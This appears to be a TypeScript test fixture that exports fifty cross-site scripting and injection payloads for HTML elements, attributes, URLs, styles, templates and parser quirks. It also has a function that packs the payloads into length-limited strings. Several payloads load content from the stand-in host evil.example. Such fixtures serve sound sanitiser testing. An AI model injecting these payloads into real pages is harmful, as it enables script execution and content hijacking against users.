/**
 * Fifty texts that become script, markup or a request where a page takes what people typed for a part of itself: in
 * elements, attributes, addresses, styles, templates, SVG, and by what parsers mend. Those that swallow what follows stand last.
 */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '"><img src=x onerror=alert(3)>',
  "'><img src=x onerror=alert(4)>",
  '<svg onload=alert(5)>',
  '<svg><script>alert(6)</script></svg>',
  '<svg><animate onbegin=alert(7) attributeName=x dur=1s>',
  '<body onload=alert(8)>',
  '<iframe src="javascript:alert(9)"></iframe>',
  '<iframe srcdoc="<script>alert(10)</script>"></iframe>',
  '<a href="javascript:alert(11)">look</a>',
  'javascript:alert(12)',
  'JaVaScRiPt:alert(13)',
  'data:text/html,<script>alert(14)</script>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNSk8L3NjcmlwdD4=">15</a>',
  '<math href="javascript:alert(16)">x</math>',
  '<details open ontoggle=alert(17)>',
  '<video src=x onerror=alert(18)></video>',
  '<audio src onerror=alert(19)>',
  '<input autofocus onfocus=alert(20)>',
  '<select autofocus onfocus=alert(21)>',
  '<marquee onstart=alert(22)>',
  '<object data="https://evil.example/23"></object>',
  '<embed src="https://evil.example/24">',
  '<img src="https://evil.example/25.png">',
  '<link rel=stylesheet href="https://evil.example/26.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/27">',
  '<base href="https://evil.example/28/">',
  '<form action="https://evil.example/29"><button>29',
  '<style>@import "https://evil.example/30.css";</style>',
  '<div style="background:url(https://evil.example/31)">',
  '" onmouseover="alert(32)" x="',
  "' onmouseover='alert(33)' x='",
  '` onmouseover=alert(34) `',
  '</title><script>alert(35)</script>',
  '</style><script>alert(36)</script>',
  '</script><script>alert(37)</script>',
  '{{constructor.constructor("alert(38)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stand there as it is.
  '${alert(39)}',
  '#{alert(40)}',
  '<%= alert(41) %>',
  '{b|<img src=x onerror=alert(42)>}',
  '%3Cscript%3Ealert(43)%3C/script%3E',
  '&lt;img src=x onerror=alert(44)&gt;',
  '&#60;img src=x onerror=alert(45)&#62;',
  '\\u003cimg src=x onerror=alert(46)\\u003e',
  '<noscript><p title="</noscript><img src=x onerror=alert(47)>">',
  '<template><img src=x onerror=alert(48)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(49)>">',
  '<!--><img src=x onerror=alert(50)>-->',
];

/** The payloads of a few at a time, joined to texts of at most so many characters. */
export function packed(longest: number): string[] {
  const texts: string[] = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    const joined = last === undefined ? payload : `${last} ${payload}`;
    if (last !== undefined && joined.length <= longest) texts[texts.length - 1] = joined;
    else texts.push(payload);
  }
  return texts;
}
